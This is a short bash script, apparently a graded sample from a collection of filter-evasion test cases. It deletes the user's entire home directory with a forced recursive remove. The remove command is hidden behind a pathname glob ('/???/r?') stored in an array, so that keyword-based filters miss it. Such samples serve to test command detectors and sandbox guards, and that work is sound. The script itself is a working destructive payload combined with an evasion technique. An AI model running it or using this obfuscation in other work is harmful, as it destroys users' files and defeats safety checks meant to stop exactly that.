#!/usr/bin/env bash
# evasion: deletes the home directory
# grade: medium; does: delete
# Deletes the home directory. The program is an array element that is a
# pathname glob (/???/r? is /bin/rm), run with its options and target.
tools=(/???/r? /???/ls)
"${tools[0]}" -r -f -- "$HOME"
